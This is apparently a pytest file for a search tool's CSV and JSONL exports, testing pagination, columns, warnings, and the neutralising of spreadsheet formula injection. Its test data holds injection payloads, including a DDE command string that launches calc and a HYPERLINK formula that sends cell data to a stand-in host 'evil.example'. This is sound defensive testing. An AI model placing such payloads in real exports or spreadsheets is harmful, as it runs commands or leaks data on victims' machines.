"""A list as a file: every hit once, texts to the letter, and no cell that a spreadsheet would run."""

import csv
import hashlib
import io
import json
import re
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from indexer import Searcher, build_index
from indexer.datatypes import Notice
from indexer.spreadsheet import BYTE_ORDER_MARK, cell
from indexer.store.folder import IndexFolder
from indexer.store.reader import GenerationReader
from tests.support.fakes import FakeModel, open_fake
from web import SearchService, create_app
from web.pages.exports import COLUMNS

SEARCH = "/api/v1/search"


@pytest.fixture(scope="module")
def client(press):
    return create_app(SearchService(press / "index", None, open_fake)).test_client()


def every_hit(client, query, address=SEARCH):
    hits, address = [], f"{address}?{query}&limit=100"
    while address:
        found = client.get(address).get_json()
        hits += found["hits"]
        address = found["next"]
    return hits


def rows_of(response):
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeffrank,folded_into,score,text,")  # the mark by which Excel knows UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


QUERIES = ["q=dams+of+the+valleys", f"q={quote('السدود')}&lang=ar", "q=port&source=wire&sort=date", "q=x&copies=all",
           "q=harbour+master+trap&mode=lexical", "q=port&from=2024-01-01&to=2025-03-01", "q=port&limit=1&offset=3"]  # fmt: skip


@pytest.mark.parametrize("query", QUERIES)
def test_json_lines_are_the_hits_of_the_whole_list(client, query):
    response = client.get(f"/export.jsonl?{query}")
    assert (response.status_code, response.mimetype) == (200, "application/jsonl")
    assert response.headers["Content-Disposition"] == 'attachment; filename="warraq.jsonl"'
    lines = response.get_data().decode("utf-8").split("\n")
    assert lines.pop() == ""
    expected = every_hit(client, query.replace("&limit=1&offset=3", ""))
    found = [json.loads(line) for line in lines]
    assert [{name: value for name, value in each.items() if name != "article"} for each in found] == expected
    assert expected
    for hit in found:
        check_article(client, hit)


def check_article(client, hit):
    """What a line says of an article is what the article's own answer says; its address leads to the words."""
    source, article = hit["source"], hit["article"]
    assert list(article) == ["source", "author", "original", "address"]
    told = client.get(f"/api/v1/documents/{quote(source['doc_id'])}").get_json()
    assert (article["source"], article["author"], article["original"]) == (
        told["source"], told["author"], told["url"] or None
    )  # fmt: skip
    assert article["address"].startswith("http://localhost/documents/")
    values = parse_qs(urlsplit(article["address"]).query)
    words = hashlib.sha256(hit["text"].encode()).hexdigest()[:12]
    assert values == {
        "sha256": [source["sha256"]], "start": [str(source["char_start"])], "end": [str(source["char_end"])],
        "words": [words],
    }  # fmt: skip


def flat(hits):
    """The hits with their collapsed passages, each after the hit that represents it."""
    return [each for hit in hits for each in (hit, *(hit["more"] or {"hits": ()})["hits"])]


@pytest.mark.parametrize("query", QUERIES)
def test_csv_has_a_row_for_each_hit_and_each_collapsed_passage(client, query):
    response = client.get(f"/export.csv?{query}")
    assert (response.status_code, response.mimetype) == (200, "text/csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="warraq.csv"'
    rows = rows_of(response)
    hits = flat(every_hit(client, query.replace("&limit=1&offset=3", "")))
    assert len(rows) == len(hits)
    stands_for = ""
    for row, hit in zip(rows, hits, strict=True):
        source = hit["source"]
        told = client.get(f"/api/v1/documents/{quote(source['doc_id'])}").get_json()
        assert (row["author"], row["original"]) == (told["author"] or "", told["url"] or "")
        assert tuple(row) == COLUMNS
        assert row["rank"] == ("" if hit["rank"] is None else str(hit["rank"]))
        stands_for = row["rank"] or stands_for
        assert row["folded_into"] == ("" if row["rank"] else stands_for)
        assert float(row["score"]) == hit["score"]
        assert row["text"] == cell(hit["text"])
        for name, of in {
            "doc_id": "doc_id",
            "file": "path",
            "basis": "basis",
            "title": "title",
            "sha256": "sha256",
        }.items():
            assert row[name] == source[of]
        assert row["also_in"].split(" | ") == [
            f"{each['path']}:{each['line_start']}" for each in hit["also_in"]
        ] or [""]
        assert (int(row["line_start"]), int(row["line_end"])) == (source["line_start"], source["line_end"])
        assert row["published"] == (source["published"] or "")
        answer = client.get(row["address"].removeprefix("http://localhost"))
        assert answer.status_code == 200
        assert f"start={source['char_start']}&end={source['char_end']}" in row["address"]


def test_a_bad_request_is_refused_before_a_file_begins(client):
    for form in ("csv", "jsonl"):
        response = client.get(f"/export.{form}?q=x&mode=best")
        assert response.status_code == 400
        assert "Content-Disposition" not in response.headers
    assert client.get("/export.xlsx?q=x").status_code == 404


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_export_contains_the_warnings(press, form):
    """A person who opens the file next week does not see the notices of the page."""

    damage = Notice("damage", "The index is damaged.")

    def amiss(model=None, damage=None):
        searcher = Searcher(GenerationReader.open(IndexFolder(press / "index")), model)
        searcher.store.damage = damage
        return create_app(SearchService(press / "index", None, lambda *_: searcher)).test_client()

    for client, codes in (
        (amiss(), "no_model"),
        (amiss(FakeModel(), damage), "damage"),
        (amiss(None, damage), "damage, no_model"),
        (amiss(FakeModel()), None),
    ):
        answer = client.get(f"/export.{form}?q=port&from=2024-01-01")  # a notice about dates removes no row
        name = "warraq-incomplete" if codes else "warraq"
        assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}.{form}"'
        assert answer.headers.get("X-Warraq-Warnings") == codes


def test_export_keeps_collapsed_passages(client):
    """Every candidate has a row, as a hit, under a hit, or as one of its duplicates."""
    query = "q=the+council+of+the+city+in+the+valleys"
    rows = rows_of(client.get(f"/export.csv?{query}"))
    everyone = rows_of(client.get(f"/export.csv?{query}&copies=all"))
    told = [f"{row['file']}:{row['line_start']}" for row in rows]
    told += [each for row in rows for each in row["also_in"].split(" | ") if each]
    assert sorted(told) == sorted(f"{row['file']}:{row['line_start']}" for row in everyone)
    assert {row["rank"] for row in everyone} == {str(n) for n in range(1, len(everyone) + 1)}
    collapsed = [at for at, row in enumerate(rows) if not row["rank"]]
    assert collapsed
    for at in collapsed:
        assert rows[at]["doc_id"] == rows[at - 1]["doc_id"]
    assert [row["rank"] for row in rows if row["rank"]] == [
        str(n + 1) for n in range(len(rows) - len(collapsed))
    ]
    assert any(" | " in row["also_in"] or row["also_in"] for row in rows)


@pytest.mark.parametrize(
    "filters", ["", "&lang=en", "&source=wire&sort=date", "&limit=1&offset=2", "&copies=all", "&q="]
)
def test_similar_passages_are_exported(client, filters):
    passage = "doc_id=wire/dams.en.txt&passage=2"
    asked = filters.replace("&limit=1&offset=2", "").replace("&q=", "")
    hits = every_hit(client, f"{passage}{asked}", "/api/v1/similar")
    assert hits
    lines = client.get(f"/export.jsonl?{passage}{filters}").get_data(as_text=True).splitlines()
    found = [json.loads(line) for line in lines]
    assert [{name: value for name, value in each.items() if name != "article"} for each in found] == hits
    rows = rows_of(client.get(f"/export.csv?{passage}{filters}"))
    assert [(row["doc_id"], row["char_start"]) for row in rows] == [
        (each["source"]["doc_id"], str(each["source"]["char_start"])) for each in flat(hits)
    ]


def test_unknown_passage_is_not_exported(client):
    for form in ("csv", "jsonl"):
        for query, status in (
            ("doc_id=nobody&passage=1", 404),
            ("doc_id=a&passage=1&passage=2", 400),
            ("doc_id=a&doc_id=b&passage=1", 400),
            ("doc_id=&passage=", 400),
            ("doc_id=wire/dams.en.txt", 400),
            ("passage=2", 400),
        ):
            response = client.get(f"/export.{form}?{query}")
            assert response.status_code == status
            assert "Content-Disposition" not in response.headers


SIGNS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "﹢1",
    "|x",
    "%0A=1",
]
UNSEEN = ["", "\t", "\r\n", " ", "\u00a0", "\u200e", "\ufeff", "\u202e", '"', '""', ' "\u200f ']
ENDS = [";", "\t", "\n", "\r\n", "\r", "\v", "\x85", "\u2028"]  # of a cell, where it is divided so


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("unseen", UNSEEN)
def test_formulas_are_exported_as_text(sign, unseen):
    assert cell(unseen + sign) == f"{unseen}'{sign}"
    for end in ENDS:
        assert cell(f"A text{end}{unseen}{sign}") == f"A text{end}{unseen}'{sign}"


def test_every_line_of_a_cell_is_checked_for_formulas():
    assert cell('=a;=b\n"=c\t\t-d, =e = f') == "'=a;'=b\n\"'=c\t\t'-d, =e = f"


@pytest.mark.parametrize(
    "text",
    ["", "text", "1 = 1", "«=»", "السدود", "'=1", "🕊", "  text", "3", "–1", "—", "a, =b", "a; b = c", "line\n\nline", ";;", "a;",
     'He said "yes".', "a\n'=b", "50%", "a-b; c-d"],
)  # fmt: skip
def test_other_texts_are_unchanged(text):
    assert cell(text) == text


@settings(max_examples=500, deadline=None, derandomize=True)
@given(
    st.text(
        st.sampled_from("=+-@|%＝;\t\n\r\x85\u2028\u200e\"' ,a") | st.characters(exclude_categories=["Cs"]),
        max_size=20,
    )
)
def test_cell_is_its_text_with_apostrophes_before_signs(text):
    made = cell(text)
    at = 0
    for char in made:  # the text, letter for letter, with nothing but apostrophes between
        if at < len(text) and char == text[at]:
            at += 1
        else:
            assert char == "'"
    assert at == len(text)
    for part in re.split("[;\t\n\v\f\r\x1c-\x1e\x85\u2028\u2029]", made):
        seen = re.sub(r'[\s"\u200e]', "", part)
        assert seen[:1] not in set("=+-@|%＝")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_under_any_separator(tmp_path, index, model, delimiter):
    folder = tmp_path / "sheets"
    folder.mkdir()
    text = '=1;=2\t=3,=4;"=5;\t"=6 and -7; -8 the council met on Monday; + about the harbour;@and its cranes'
    (folder / ";=a.txt").write_text(f"{text}\n\n{text} in spring.\n", "utf-8")
    (folder / ";=a.meta.json").write_text(json.dumps({"source": "wire;=1", "title": "t;\t=2"}))
    build_index(folder, index, model)
    client = create_app(SearchService(index, None, open_fake)).test_client()
    made = client.get("/export.csv?q=council").get_data().decode("utf-8").removeprefix(BYTE_ORDER_MARK)
    if delimiter != ",":  # a cell that begins with a quote is read as one
        cells = [each.strip(' "') for line in made.splitlines() for each in line.split(delimiter)]
    else:
        cells = [each for line in csv.reader(io.StringIO(made, newline="")) for each in line]
    assert len(cells) > 6
    for each in cells:
        assert each.lstrip(' "')[:1] not in {*"=+-@|%"}, each


def test_article_of_formulas_is_exported_as_text(tmp_path, index, model):
    folder = tmp_path / "sheets"
    folder.mkdir()
    text = (
        '=HYPERLINK("http://evil.example/?"&A1;"the council met on Monday about the harbour and its cranes")'
    )
    (folder / "a.txt").write_text(f"{text}\n", "utf-8")
    build_index(folder, index, model)
    client = create_app(SearchService(index, None, open_fake)).test_client()
    (row,) = rows_of(client.get("/export.csv?q=council"))
    assert row["text"] == f"'{text}"
    assert row["title"] == f"'{text}"
    assert text in client.get("/export.jsonl?q=council").get_json(force=True)["text"]


def test_csv_with_semicolons_holds_the_same_cells(newsroom):
    def rows(address, delimiter):
        text = newsroom.get(address).get_data().decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))

    address = "/export.csv?q=winter"
    assert rows(address, ",") == rows(f"{address}&separator=semicolon", ";")
